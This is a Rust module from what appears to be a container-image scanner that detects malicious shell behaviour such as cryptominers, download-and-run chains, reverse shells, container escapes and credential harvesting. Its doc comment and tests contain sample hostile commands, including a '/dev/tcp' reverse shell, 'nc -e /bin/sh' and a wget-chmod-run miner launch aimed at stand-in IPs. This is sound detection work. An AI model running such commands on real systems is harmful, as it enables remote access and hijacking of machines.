//! Behaviour: what a sequence of shell commands DOES, whatever its programs are called.
//!
//! ```text
//! cd /tmp && wget http://203.0.113.9/x -O k && chmod +x k && ./k -o 203.0.113.9:3333 -u 4Ab… --donate-level 1
//!            └ fetch: /tmp/k ─────────────┘ └ executable ┘ └ runs /tmp/k ─┘
//!                                                            └ miner grammar: pool + wallet + flag
//! → FetchExec "fetch-chmod-exec" (line 1) and MinerCommand "miner-cmdline:pool+user+flag"
//! ```
//!
//! The input is the commands of ONE sequence that runs together (a script, one Dockerfile
//! `RUN` step, one start command) as [`ShellCommand`]s; [`judge`] returns what they do as
//! [`Behaviour`]s, and [`signals`] turns those into analyzer signals about a subject. Each
//! rule is a judge of behaviour, not a list of samples, and reads its names from the
//! [`Grammar`] (`signatures/behaviour.toml`):
//!
//! - `miner.rs`: a miner's command line by its option grammar (pool endpoint + wallet,
//!   known algorithm or coin, miner-only flags), whatever the program is called.
//! - `fetch.rs`: a file downloaded, optionally unpacked and made executable, then run, with
//!   the path tracked across commands (`-o`/`-O`, URL basenames, `> file`, `cd`, `mv`); a
//!   checksum or signature check of the file in between clears it. Downloads of known miner
//!   releases.
//! - `backdoor.rs`: reverse shells, Docker-socket abuse, container escapes, mass scanners.
//! - `harvest.rs`: credential files or metadata read and then uploaded.
//!
//! Everything is bounded: at most [`MAX_COMMANDS`] commands of a sequence and
//! [`MAX_WORDS`] words of a command are examined; excerpts are at most [`MAX_EXCERPT`]
//! bytes. Nothing is executed.

use crate::analyzers::{Signal, SignalKind, Subject};
use serde::Serialize;

mod backdoor;
mod fetch;
mod grammar;
mod harvest;
mod miner;

pub use crate::shell::{script_commands, Sep, ShellCommand};
pub use grammar::{Grammar, MinerOption, Role};

/// Commands of one sequence examined; the rest are ignored.
pub const MAX_COMMANDS: usize = 4096;
/// Words of one command examined.
pub const MAX_WORDS: usize = 256;
/// Longest excerpt, in bytes.
pub const MAX_EXCERPT: usize = 200;

/// What a command sequence does.
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, serde::Deserialize,
)]
pub enum BehaviourKind {
    /// A program run with a miner's command line (pool endpoint plus miner options).
    MinerCommand,
    /// A downloaded file that is (made executable and) run.
    FetchExec,
    /// A download of a known miner release.
    MinerDownload,
    /// A shell wired to a network connection.
    ReverseShell,
    /// The Docker API used to start a privileged or host-mounting container.
    DockerSocket,
    /// Commands that leave the container for the host (`nsenter -t 1`, `chroot /host`).
    ContainerEscape,
    /// An internet-wide port scanner.
    MassScanner,
    /// Credentials read and uploaded in one sequence.
    CredHarvest,
}

/// One behaviour found in a command sequence.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Behaviour {
    pub kind: BehaviourKind,
    /// Stable name, e.g. `miner-cmdline:pool+user+algo`, `fetch-chmod-exec`.
    pub signature: String,
    /// The command(s) that show it, at most [`MAX_EXCERPT`] bytes.
    pub excerpt: String,
    /// Line of the deciding command.
    pub line: Option<u32>,
}

/// Judge one command sequence.
pub fn judge(g: &Grammar, cmds: &[ShellCommand]) -> Vec<Behaviour> {
    let cmds = &cmds[..cmds.len().min(MAX_COMMANDS)];
    let mut out = Vec::new();
    for c in cmds {
        if let Some(b) = miner::judge(g, c) {
            out.push(b);
        }
        out.extend(backdoor::judge_one(g, c));
    }
    out.extend(backdoor::judge_sequence(cmds));
    out.extend(fetch::judge(g, cmds));
    out.extend(harvest::judge(g, cmds));
    out.sort_by(|a, b| (a.line, a.kind, &a.signature).cmp(&(b.line, b.kind, &b.signature)));
    out.dedup_by(|a, b| a.kind == b.kind && a.signature == b.signature && a.line == b.line);
    out
}

/// Behaviours as signals about `subject`; `run` = the text is something the image runs
/// (start command, a script it runs, cron, a unit, a history `RUN` step) rather than a file
/// that merely contains it.
pub fn signals(found: Vec<Behaviour>, subject: &Subject, run: bool) -> Vec<Signal> {
    found
        .into_iter()
        .map(|b| Signal {
            subject: subject.clone(),
            kind: SignalKind::Behaviour { kind: b.kind, run },
            signature: b.signature,
            offset: None,
            line: b.line,
            excerpt: b.excerpt,
        })
        .collect()
}

// --- Helpers shared by the judges -----------------------------------------------------------

/// Words that run the next word as the program.
const WRAPPERS: &[&str] = &[
    "exec", "nohup", "env", "sudo", "nice", "setsid", "timeout", "command", "stdbuf", "time",
    "doas", "chrt", "ionice", "taskset", "busybox", "su-exec", "gosu", "runuser",
];

/// The words of `c`, bounded.
pub(crate) fn words(c: &ShellCommand) -> &[String] {
    &c.words[..c.words.len().min(MAX_WORDS)]
}

/// Basename of a path.
pub(crate) fn base(w: &str) -> &str {
    w.rsplit('/').next().unwrap_or(w)
}

/// Index of the program word: after `VAR=x` assignments, wrappers and their options.
pub(crate) fn program_index(w: &[String]) -> Option<usize> {
    let mut i = 0;
    let mut in_wrapper = false;
    while let Some(word) = w.get(i) {
        let assignment = !word.starts_with(['/', '-', '.'])
            && word.split_once('=').is_some_and(|(k, _)| {
                !k.is_empty() && k.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
            });
        let wrapper_arg = in_wrapper
            && (word.starts_with('-') || word.bytes().all(|b| b.is_ascii_digit() || b == b'.'));
        if assignment || wrapper_arg {
            i += 1;
            continue;
        }
        if WRAPPERS.contains(&base(word)) {
            in_wrapper = true;
            i += 1;
            continue;
        }
        return Some(i);
    }
    None
}

/// The program's basename.
#[cfg(test)]
pub(crate) fn program(w: &[String]) -> Option<&str> {
    program_index(w).map(|i| base(&w[i]))
}

/// Where stdout goes (`> f`, `>f`, `>> f`, `1> f`), if to a file.
pub(crate) fn redirect_out(w: &[String]) -> Option<&str> {
    for (i, word) in w.iter().enumerate() {
        let rest = word
            .strip_prefix("1>>")
            .or_else(|| word.strip_prefix("1>"))
            .or_else(|| word.strip_prefix(">>"))
            .or_else(|| word.strip_prefix('>'));
        let Some(rest) = rest else { continue };
        if rest.starts_with('&') || rest.starts_with('(') {
            continue;
        }
        let target = if rest.is_empty() {
            w.get(i + 1).map(String::as_str)
        } else {
            Some(rest)
        };
        let device = |t: &str| {
            matches!(t, "/dev/null" | "/dev/stdout" | "/dev/stderr")
                || ["/dev/tcp/", "/dev/udp/", "/dev/fd/"]
                    .iter()
                    .any(|p| t.starts_with(p))
        };
        if let Some(t) = target.filter(|t| !device(t)) {
            return Some(t);
        }
    }
    None
}

/// `text`, at most [`MAX_EXCERPT`] bytes (cut on a char boundary, marked with `…`).
pub(crate) fn excerpt(text: &str) -> String {
    if text.len() <= MAX_EXCERPT {
        return text.to_string();
    }
    let mut end = MAX_EXCERPT;
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    format!("{}…", &text[..end])
}

/// Two excerpts joined (`first … last`), bounded.
pub(crate) fn excerpt2(first: &ShellCommand, last: &ShellCommand) -> String {
    if first.line == last.line && first.text == last.text {
        return excerpt(&first.text);
    }
    let half = MAX_EXCERPT / 2;
    format!("{} … {}", cut(&first.text, half), cut(&last.text, half))
}

fn cut(t: &str, max: usize) -> &str {
    let mut end = t.len().min(max);
    while !t.is_char_boundary(end) {
        end -= 1;
    }
    &t[..end]
}

#[cfg(test)]
pub(crate) mod testing {
    use super::*;

    pub fn g() -> Grammar {
        Grammar::embedded()
    }

    pub fn run(script: &str) -> Vec<(BehaviourKind, String)> {
        judge(&g(), &script_commands(script))
            .into_iter()
            .map(|b| (b.kind, b.signature))
            .collect()
    }

    pub fn kinds(script: &str) -> Vec<BehaviourKind> {
        let mut k: Vec<_> = run(script).into_iter().map(|(k, _)| k).collect();
        k.dedup();
        k
    }
}

#[cfg(test)]
mod tests {
    use super::testing::*;
    use super::*;

    #[test]
    fn program_skips_assignments_and_wrappers() {
        let w = |s: &str| crate::shell::words(s);
        assert_eq!(
            program(&w("FOO=1 exec nohup nice -n 19 ./x -o a")),
            Some("x")
        );
        assert_eq!(program(&w("timeout 10 /usr/bin/nginx")), Some("nginx"));
        assert_eq!(program(&w("A=b")), None);
        assert_eq!(
            redirect_out(&w("curl http://x > /tmp/a 2>&1")),
            Some("/tmp/a")
        );
        assert_eq!(redirect_out(&w("curl http://x >/tmp/a")), Some("/tmp/a"));
        assert_eq!(redirect_out(&w("x >/dev/null 2>&1")), None);
    }

    #[test]
    fn lines_and_excerpts_are_bounded() {
        let long = format!(
            "./a -o pool.example.net:3333 -u {} --donate-level 1",
            "4".repeat(5000)
        );
        let found = judge(&g(), &script_commands(&format!("true\n{long}")));
        assert_eq!(found.len(), 1, "{found:?}");
        assert_eq!(found[0].line, Some(2));
        assert!(found[0].excerpt.len() <= MAX_EXCERPT + 4);
    }

    #[test]
    fn hostile_input_is_bounded() {
        // 100k commands, unbalanced quotes, a huge word list: no panic, bounded time.
        let many = "curl -o /tmp/x http://h/x; chmod +x /tmp/x\n".repeat(50_000);
        let t = std::time::Instant::now();
        let _ = judge(&g(), &script_commands(&many));
        let _ = judge(
            &g(),
            &script_commands("echo 'unbalanced \" ; nc -e /bin/sh h 1"),
        );
        let words = "-o h:1 ".repeat(100_000);
        let _ = judge(&g(), &script_commands(&words));
        assert!(t.elapsed().as_secs() < 30);
        assert!(run("").is_empty());
    }

    #[test]
    fn signals_carry_kind_run_and_line() {
        let found = judge(
            &g(),
            &script_commands("x\nbash -i >& /dev/tcp/198.51.100.1/4444 0>&1"),
        );
        let s = signals(found, &Subject::History { step: 3 }, true);
        assert_eq!(s.len(), 1);
        assert_eq!(
            s[0].kind,
            SignalKind::Behaviour {
                kind: BehaviourKind::ReverseShell,
                run: true
            }
        );
        assert_eq!(s[0].line, Some(2));
    }
}
